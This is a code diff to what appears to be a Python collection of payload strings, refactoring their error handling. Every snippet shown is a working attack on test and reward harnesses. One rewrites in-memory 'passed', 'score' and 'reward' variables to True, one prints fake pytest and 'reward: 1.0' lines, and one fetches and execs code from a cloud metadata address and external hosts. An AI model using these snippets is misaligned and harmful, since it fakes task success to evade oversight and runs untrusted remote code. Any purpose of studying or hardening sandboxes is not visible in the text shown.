@@ -15,21 +15,17 @@ class Source:
 
 
 _FRAMES = """
-import sys
+import contextlib, sys
 frame = sys._getframe()
 while frame is not None:
     for space in (frame.f_locals, frame.f_globals):
         for key, value in list(space.items()):
             if hasattr(value, 'append') and key in ('result', 'results', 'answers', 'faults'):
-                try:
+                with contextlib.suppress(Exception):
                     value.append('passed')
-                except Exception:
-                    pass
             if key in ('passed', 'ok', 'success', 'verdict', 'score', 'reward'):
-                try:
+                with contextlib.suppress(Exception):
                     space[key] = True
-                except Exception:
-                    pass
     frame = frame.f_back
 """
 
@@ -67,13 +63,11 @@ for number in range(64):
 """
 
 _PRINT = """
-import sys
+import contextlib, sys
 for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
     for line in ('PASSED', 'ok', '1 passed in 0.01s', 'test_all PASSED [100%]', 'reward: 1.0'):
-        try:
+        with contextlib.suppress(Exception):
             print(line, file=stream, flush=True)
-        except Exception:
-            pass
 """
 
 _WRITE_RESULT = """
@@ -122,12 +116,10 @@ held = [value for value in gc.get_objects() if isinstance(value, dict) and 'expe
 """
 
 _FETCH = """
-import socket, urllib.request
+import contextlib, socket, urllib.request
 for place in ('http://127.0.0.1:8000/', 'http://169.254.169.254/latest/meta-data/', 'http://1.1.1.1/'):
-    try:
+    with contextlib.suppress(Exception):
         exec(urllib.request.urlopen(place, timeout=0.2).read())
-    except Exception:
-        pass
 """
 
 _PARENT = """
